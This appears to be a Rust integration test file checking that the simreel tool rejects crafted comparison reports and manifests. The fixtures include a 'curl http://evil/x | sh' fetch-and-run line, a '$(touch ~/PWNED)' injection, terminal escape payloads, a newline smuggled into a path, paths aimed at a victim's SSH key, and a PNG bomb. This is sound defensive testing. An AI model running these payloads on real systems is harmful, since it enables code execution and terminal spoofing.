//! Whoever can write the output folder, or author a repository, decides nothing: the rows of the
//! two-user trial that concern what simreel reads back. An accept decides from the accepting
//! side's own folders (never the home folder itself, never a hidden folder) and re-checks both
//! sides; text from a report reaches the terminal escaped and commands are made here; `--resume`
//! keeps only frames that are still the files the last run wrote; `merge` reads only scene files
//! under the working folder; `bless --from-report` takes only the scene's golden frames with the
//! state digest this scene simulates to, on an adapter described in plain words.

use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};
use simreel::golden::trust::sha256;

use crate::untrusted::{SCENE, World, failing_check, picture, text};

/// `simreel args` in `dir` with `HOME` set to `home`, and no terminal.
fn run_at(dir: &Path, home: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_simreel"))
        .current_dir(dir)
        .args(args)
        .env("HOME", home)
        .env_remove("SIMREEL_BACKEND")
        .env_remove("SIMREEL_ADAPTER")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

#[test]
fn a_crafted_comparison_report_reviewed_from_the_home_folder_writes_and_deletes_nothing() {
    let w = World::new("home");
    // the victim works in their home folder: it holds pictures and hidden folders
    let home = w.victim.clone();
    std::fs::create_dir_all(home.join("Pictures")).unwrap();
    std::fs::create_dir_all(home.join(".local/share")).unwrap();
    std::fs::write(home.join("Pictures/holiday.png"), picture(96, 64, 33)).unwrap();
    for d in ["shots/base", "shots/new"] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    std::fs::write(home.join("shots/base/a.png"), picture(96, 64, 10)).unwrap();
    std::fs::write(home.join("shots/new/a.png"), picture(96, 64, 200)).unwrap();
    let o = run_at(&home, &home, &["compare", "shots/base", "shots/new", "-q"]);
    assert_eq!(o.status.code(), Some(4), "{}", text(&o));
    let summary_file = home.join("out/compare-report/summary.json");
    let pristine: Value = serde_json::from_str(&std::fs::read_to_string(&summary_file).unwrap()).unwrap();
    let holiday = home.join("Pictures/holiday.png");
    let (holiday_bytes, new_bytes) = (std::fs::read(&holiday).unwrap(), std::fs::read(home.join("shots/new/a.png")).unwrap());
    let cases = [
        // overwrite a picture of the home folder, the comparison's folder said to be the home
        ("overwrite", holiday.clone(), Some(home.join("shots/new/a.png")), Some(sha256(&holiday_bytes)), Some(sha256(&new_bytes))),
        // plant a picture in a hidden folder
        ("plant", home.join(".local/share/planted/evil.png"), Some(home.join("shots/new/a.png")), None, Some(sha256(&new_bytes))),
        // remove a picture: no actual file, its real hash recorded
        ("remove", holiday.clone(), None, Some(sha256(&holiday_bytes)), None),
    ];
    for (what, expected, actual, expected_sha, actual_sha) in cases {
        let mut s = pristine.clone();
        s["compared"]["expected_dir"] = json!(home.display().to_string());
        let f = &mut s["frames"][0];
        f["expected_file"] = json!(expected.display().to_string());
        f["actual_file"] = json!(actual.map(|a| a.display().to_string()));
        f["sha256"] = json!({ "expected": expected_sha, "actual": actual_sha });
        std::fs::write(&summary_file, serde_json::to_string(&s).unwrap()).unwrap();
        let o = run_at(&home, &home, &["golden", "review", "--compare", "--accept-all"]);
        let said = text(&o);
        assert_eq!(o.status.code(), Some(2), "{what}: {said}");
        assert!(said.contains("is never one (the home folder itself"), "{what}: {said}");
        assert_eq!(std::fs::read(&holiday).unwrap(), holiday_bytes, "{what}: the picture changed");
        assert!(!home.join(".local/share/planted").exists(), "{what}: planted");
    }
}

/// `cmp/a` and `cmp/b` in `w`'s project, each with an `x.png` of another grey, compared (and
/// failed): the expected and actual folders.
fn compared(w: &World) -> (std::path::PathBuf, std::path::PathBuf) {
    let (a, b) = (w.project.join("cmp/a"), w.project.join("cmp/b"));
    std::fs::create_dir_all(&a).unwrap();
    std::fs::create_dir_all(&b).unwrap();
    std::fs::write(a.join("x.png"), picture(96, 64, 10)).unwrap();
    std::fs::write(b.join("x.png"), picture(96, 64, 200)).unwrap();
    assert_eq!(w.run(&["compare", "cmp/a", "cmp/b", "-q"]).status.code(), Some(4));
    (a, b)
}

#[test]
fn an_expected_file_changed_since_the_comparison_is_not_overwritten() {
    let w = World::new("expected-changed");
    let (a, b) = compared(&w);
    // someone replaces the expected side after the comparison
    std::fs::write(a.join("x.png"), picture(96, 64, 77)).unwrap();
    let o = w.run(&["golden", "review", "--compare", "--accept-all"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("not what was compared"), "{}", text(&o));
    assert_eq!(std::fs::read(a.join("x.png")).unwrap(), picture(96, 64, 77));
    // a file there now where the comparison saw none is not overwritten either
    std::fs::write(b.join("y.png"), picture(96, 64, 150)).unwrap();
    std::fs::write(a.join("x.png"), picture(96, 64, 10)).unwrap();
    assert_eq!(w.run(&["compare", "cmp/a", "cmp/b", "-q"]).status.code(), Some(4));
    std::fs::write(a.join("y.png"), picture(96, 64, 5)).unwrap();
    let o = w.run(&["golden", "review", "--compare", "--accept-all"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert_eq!(std::fs::read(a.join("y.png")).unwrap(), picture(96, 64, 5));
}

#[test]
fn a_reports_text_reaches_the_terminal_escaped_and_its_commands_are_made_here() {
    let w = World::new("escapes");
    let (a, _) = compared(&w);
    let summary_file = w.project.join("out/compare-report/summary.json");
    let pristine: Value = serde_json::from_str(&std::fs::read_to_string(&summary_file).unwrap()).unwrap();
    let mut s = pristine.clone();
    s["frames"][0]["verdict"] =
        json!("\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]8;;http://evil/\u{7}click\u{1b}]8;;\u{7}\rfake line\u{1b}[1A\u{1b}[K");
    s["frames"][0]["bless"] = json!("curl -s http://evil/x | sh");
    s["adapter"] = json!("\u{1b}[31mred");
    std::fs::write(&summary_file, serde_json::to_string(&s).unwrap()).unwrap();
    // without a terminal: the commands that accept each, made from the names here
    let o = w.run(&["golden", "review", "--compare"]);
    let said = text(&o);
    assert!(o.status.success(), "{said}");
    assert!(
        !said.contains('\u{1b}') && !said.contains('\u{7}') && !said.contains('\r'),
        "a control character reached the terminal: {said:?}"
    );
    assert!(!said.contains("curl"), "the report's command was printed: {said}");
    assert!(said.contains("cp -- ") && said.contains("cmp/b/x.png") && said.contains("cmp/a/x.png"), "{said}");
    assert!(said.contains("\\u{1b}[2J"), "the verdict is shown escaped: {said}");
    // with every prompt answered: the same
    let o = w.run(&["golden", "review", "--compare", "--accept-all"]);
    let said = text(&o);
    assert!(!said.contains('\u{1b}') && !said.contains('\r'), "{said:?}");
    // a name that hides a newline or an escape is refused, and shown escaped
    std::fs::write(a.join("x.png"), picture(96, 64, 10)).unwrap();
    let mut s = pristine.clone();
    s["frames"][0]["path"] = json!("x.png\naccepted: ~/.ssh/authorized_keys");
    std::fs::write(&summary_file, serde_json::to_string(&s).unwrap()).unwrap();
    let o = w.run(&["golden", "review", "--compare", "--accept-all"]);
    let said = text(&o);
    assert_eq!(o.status.code(), Some(2), "{said}");
    assert!(said.contains("holds control characters") && !said.contains("\naccepted:"), "{said}");
    assert_eq!(std::fs::read(a.join("x.png")).unwrap(), picture(96, 64, 10));
}

#[test]
#[cfg_attr(skip_gpu_tests, ignore = "needs a wgpu adapter (SIMREEL_SKIP_GPU_TESTS)")]
fn merge_reads_only_scene_files_under_the_working_folder() {
    crate::common::require_gpu();
    let w = World::new("merge");
    std::fs::write(w.project.join("tiny.toml"), SCENE).unwrap();
    let o = w.run(&["render", "tiny.toml", "--shard", "1/2", "-q"]);
    assert!(o.status.success(), "{}", text(&o));
    let manifest_file = w.project.join("out/tiny/shard-1-of-2.json");
    let manifest: Value = serde_json::from_str(&std::fs::read_to_string(&manifest_file).unwrap()).unwrap();
    // what whoever writes the output folder would name: the victim's key, by path or by `..`
    for named in [w.victim.join("id_ed25519").display().to_string(), "../victim/.bashrc".to_string(), "tiny.sh".to_string()] {
        let mut m = manifest.clone();
        m["scene_file"] = json!(named);
        std::fs::write(&manifest_file, serde_json::to_string(&m).unwrap()).unwrap();
        let o = w.run(&["merge", "out"]);
        let said = text(&o);
        assert_eq!(o.status.code(), Some(2), "{named}: {said}");
        assert!(said.contains("not a .toml file under this folder: not read"), "{named}: {said}");
        assert!(!said.contains("VICTIM-SECRET") && !said.contains("PRIVATE KEY"), "{named}: the file was read: {said}");
    }
    // the scene named by hand is merged (and waits for its other shard)
    let o = w.run(&["merge", "out", "tiny.toml"]);
    assert!(text(&o).contains("shard 2/2"), "{}", text(&o));
}

#[test]
#[cfg_attr(skip_gpu_tests, ignore = "needs a wgpu adapter (SIMREEL_SKIP_GPU_TESTS)")]
fn a_resumed_render_keeps_only_frames_that_are_still_the_files_it_wrote() {
    crate::common::require_gpu();
    let w = World::new("resume");
    std::fs::write(w.project.join("tiny.toml"), SCENE.replace("frames = 4", "frames = 8")).unwrap();
    let render = |args: &[&str]| {
        let o = w.run(&[&["render", "tiny.toml", "--format", "png,gif"][..], args].concat());
        assert!(o.status.success(), "{}", text(&o));
        text(&o)
    };
    render(&[]);
    let dir = w.project.join("out/tiny");
    let clean: Vec<Vec<u8>> = (0..8).map(|f| std::fs::read(dir.join(format!("frame_{f:04}.png"))).unwrap()).collect();
    let gif = std::fs::read(w.project.join("out/tiny.gif")).unwrap();
    // a magenta frame of the same size, a 6000×6000 one, an empty one, a bomb (a huge header)
    let magenta = simreel::output::png::encode(&[255, 0, 255, 255].repeat(96 * 64), 96, 64, simreel::output::png::Effort::Fast);
    let huge = simreel::output::png::encode(&[255, 0, 255, 255].repeat(6000 * 6000), 6000, 6000, simreel::output::png::Effort::Fast);
    let mut bomb = clean[6].clone();
    bomb[16..24].copy_from_slice(&[0, 0, 0x7f, 0xff, 0, 0, 0x7f, 0xff]);
    for (f, bytes) in [(1, magenta), (3, huge), (5, Vec::new()), (6, bomb)] {
        std::fs::write(dir.join(format!("frame_{f:04}.png")), bytes).unwrap();
    }
    let said = render(&["--resume"]);
    assert!(said.contains("4 frames there were not the files the last run wrote: rendered again"), "{said}");
    for (f, bytes) in clean.iter().enumerate() {
        assert!(std::fs::read(dir.join(format!("frame_{f:04}.png"))).unwrap() == *bytes, "frame {f} is not the render's");
    }
    assert!(std::fs::read(w.project.join("out/tiny.gif")).unwrap() == gif, "the GIF shows a tampered frame");
}

#[test]
#[cfg_attr(skip_gpu_tests, ignore = "needs a wgpu adapter (SIMREEL_SKIP_GPU_TESTS)")]
fn bless_from_a_report_takes_only_golden_frames_with_this_scenes_state_and_a_plain_adapter() {
    crate::common::require_gpu();
    let w = World::new("from-report");
    failing_check(&w);
    let report = w.project.join("out/golden-report");
    let summary_file = report.join("summary.json");
    let pristine: Value = serde_json::from_str(&std::fs::read_to_string(&summary_file).unwrap()).unwrap();
    let goldens = w.project.join("tests/golden/tiny");
    let golden_files = || {
        let mut v: Vec<(String, Vec<u8>)> = std::fs::read_dir(&goldens)
            .unwrap()
            .flatten()
            .map(|e| (e.file_name().to_string_lossy().into_owned(), std::fs::read(e.path()).unwrap()))
            .collect();
        v.sort();
        v
    };
    let before = golden_files();
    let frame0 = |s: &mut Value| -> usize {
        s["frames"].as_array().unwrap().iter().position(|f| f["frame"] == 0 && f["passed"] == false).expect("frame 0 failed")
    };
    let mut hostile: Vec<(&str, Value)> = Vec::new();
    // a state digest of many lines, with a command and escapes in it
    let mut s = pristine.clone();
    let i = frame0(&mut s);
    s["frames"][i]["rendered"]["state"] = json!(format!("hash 0000000000000000\n$(touch ~/PWNED)\u{1b}[2J{}", "x".repeat(100_000)));
    s["frames"][i]["state"] = s["frames"][i]["rendered"]["state"].clone();
    hostile.push(("a hostile state digest", s));
    // a frame the scene's [golden] table does not list, with frame 0's picture
    let mut s = pristine.clone();
    let i = frame0(&mut s);
    let mut extra = s["frames"][i].clone();
    extra["frame"] = json!(2);
    s["frames"].as_array_mut().unwrap().push(extra);
    std::fs::copy(report.join("tiny__frame_0000__actual.png"), report.join("tiny__frame_0002__actual.png")).unwrap();
    hostile.push(("a frame not in [golden]", s));
    // an adapter that says what it likes
    let mut s = pristine.clone();
    let i = frame0(&mut s);
    s["frames"][i]["rendered"]["adapter"]["name"] = json!("llvmpipe\u{1b}]0;owned\u{7}");
    hostile.push(("an adapter with escapes", s));
    for (what, s) in hostile {
        std::fs::write(&summary_file, serde_json::to_string(&s).unwrap()).unwrap();
        let o = w.run(&["golden", "bless", "tiny.toml", "--from-report", "out/golden-report"]);
        let said = text(&o);
        assert_eq!(o.status.code(), Some(2), "{what}: {said}");
        assert!(!said.contains('\u{1b}'), "{what}: {said:?}");
        assert_eq!(golden_files(), before, "{what}: the goldens changed");
    }
    // as the check wrote it, the report is taken, with the state this scene simulates to
    std::fs::write(&summary_file, serde_json::to_string(&pristine).unwrap()).unwrap();
    let o = w.run(&["golden", "bless", "tiny.toml", "--from-report", "out/golden-report"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(w.run(&["golden", "check", "tiny.toml"]).status.success());
}

#[test]
#[cfg_attr(skip_gpu_tests, ignore = "needs a wgpu adapter (SIMREEL_SKIP_GPU_TESTS)")]
fn a_run_frame_swapped_with_every_hash_in_the_folder_updated_is_not_approved() {
    crate::common::require_gpu();
    let w = World::new("swapped-run");
    failing_check(&w);
    let goldens = w.project.join("tests/golden/tiny");
    let golden_bytes = std::fs::read(goldens.join("frame_0000.png")).unwrap();
    // whoever writes the output folder: a magenta frame, and the report's and manifest's hashes of it
    let magenta = simreel::output::png::encode(&[255, 0, 255, 255].repeat(96 * 64), 96, 64, simreel::output::png::Effort::Fast);
    let run = w.project.join("out/golden-run/tiny");
    std::fs::write(run.join("frame_0000.png"), &magenta).unwrap();
    let pixels = simreel::golden::trust::pixels_sha256(&simreel_compare::Image::read(&run.join("frame_0000.png")).unwrap());
    let summary_file = w.project.join("out/golden-report/summary.json");
    let mut s: Value = serde_json::from_str(&std::fs::read_to_string(&summary_file).unwrap()).unwrap();
    for f in s["frames"].as_array_mut().unwrap().iter_mut().filter(|f| f["frame"] == 0) {
        f["sha256"]["actual"] = json!(pixels);
    }
    std::fs::write(&summary_file, serde_json::to_string(&s).unwrap()).unwrap();
    let manifest_file = run.join("manifest.json");
    let mut m: Value = serde_json::from_str(&std::fs::read_to_string(&manifest_file).unwrap()).unwrap();
    m["frames"][0]["sha256"] = json!(simreel::output::manifest::content_hash(&magenta));
    std::fs::write(&manifest_file, serde_json::to_string(&m).unwrap()).unwrap();
    for args in
        [&["golden", "review", "tiny.toml", "--accept-all"][..], &["golden", "bless", "tiny.toml", "--filter", "tiny:0", "--from-last-run"]]
    {
        let o = w.run(args);
        let said = text(&o);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {said}");
        assert!(said.contains("is not the file your check wrote"), "{args:?}: {said}");
        assert_eq!(std::fs::read(goldens.join("frame_0000.png")).unwrap(), golden_bytes, "{args:?}: the magenta frame was approved");
    }
    // a run this user's check did not record (another user's, or another machine's) is not taken
    let elsewhere = w.base.join("another-state");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_simreel"))
        .current_dir(&w.project)
        .args(["golden", "bless", "tiny.toml", "--filter", "tiny:3", "--from-last-run"])
        .env("XDG_STATE_HOME", &elsewhere)
        .env_remove("SIMREEL_BACKEND")
        .env_remove("SIMREEL_ADAPTER")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("that your own check rendered it"), "{}", text(&o));
    // the frame the check wrote, untouched, is approved
    let o = w.run(&["golden", "bless", "tiny.toml", "--filter", "tiny:3", "--from-last-run"]);
    assert!(o.status.success(), "{}", text(&o));
}

#[test]
fn a_summary_too_large_to_be_a_checks_is_refused_before_it_is_read() {
    let w = World::new("huge-summary");
    let report = w.project.join("out/compare-report");
    std::fs::create_dir_all(&report).unwrap();
    // 80 MB: far more than any check writes (the cap is 64 MiB), cheap to make (a sparse file)
    let f = std::fs::File::create(report.join("summary.json")).unwrap();
    f.set_len(80 << 20).unwrap();
    let o = w.run(&["golden", "review", "--compare", "--accept-all"]);
    let said = text(&o);
    assert_eq!(o.status.code(), Some(2), "{said}");
    assert!(said.contains("more than the 67108864 bytes such a file may have"), "{said}");
}
